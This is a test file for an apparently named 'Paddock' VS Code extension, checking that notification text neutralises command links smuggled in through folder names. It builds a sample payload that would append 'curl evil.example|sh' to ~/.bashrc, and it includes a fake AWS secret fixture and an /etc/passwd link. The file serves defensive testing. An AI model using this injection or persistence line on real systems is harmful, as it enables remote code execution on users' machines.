import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { analyzeWorkspace } from '../../../src/core/drift/index.js';
import { inertLinks, NOTIFICATION_LINK } from '../../../src/vscode/notificationText.js';
import { removeTrees, tree } from '../hiding/support.js';

after(removeTrees);
const k = (...parts: string[]) => parts.join('');
const AWS_SECRET = k('aws_secret_access_key = ', 'q8Rz3Lm0Vx7Tn2Bw5Kc9Jd4Hf6Gs1Py8Ua3Ei0Oo', '\n');
const links = (text: string) => [...text.replace(/(\r\n|\n|\r)/gm, ' ').matchAll(NOTIFICATION_LINK)].map((m) => m[2]);
// A click would append "curl …|sh" to ~/.bashrc through the drift fix command (any Fix it is given).
const PAYLOAD = `command:paddock.drift.applyFix?${encodeURIComponent(JSON.stringify({ kind: 'add-ignore-line', title: 'x', file: '/root/.bashrc', line: 'curl evil.example|sh' }))}`;

describe('notification text holds no link', () => {
  it('a folder the agent names "[Hide it](command:…)" gives the drift fix a title that a notification makes a command link', () => {
    const dir = `[Hide it](${PAYLOAD} "Hide the file")`;
    const ws = tree({ files: { [`${dir}/creds.txt`]: AWS_SECRET } });
    const fix = analyzeWorkspace(ws).findings.find((f) => f.rule === 'secret-not-hidden')!.fixes[0];
    // As drift/diagnostics.ts words it after a fix created the policy file.
    const message = `Paddock: created .paddock/policy.yaml (${fix.title}).`;
    assert.deepEqual(links(message), [PAYLOAD], 'the raw text holds the link');
    assert.deepEqual(links(inertLinks(message)), []);
    assert.equal(inertLinks(message).replace(/\] \(/g, ']('), message, 'only "](" changes');
  });

  it('line breaks (made spaces by VS Code) and several links', () => {
    for (const text of ['[a](command:x)', '[a]\n(command:x)', 'x [a](https://e.example) y [b](file:///etc/passwd)', '[[a]](command:x)', '[a](command:x "t")']) {
      assert.deepEqual(links(inertLinks(text)), [], text);
    }
  });

  it('every notification in src/vscode/ goes through notify.ts', () => {
    const root = join(__dirname, '..', '..', '..', 'src', 'vscode');
    const files = readdirSync(root, { recursive: true, encoding: 'utf8' }).filter((f) => f.endsWith('.ts') && f !== 'notify.ts');
    const direct = files.filter((f) => /window\s*\.\s*(show(Information|Warning|Error)Message|withProgress)\b/.test(readFileSync(join(root, f), 'utf8')));
    assert.deepEqual(direct, []);
  });
});
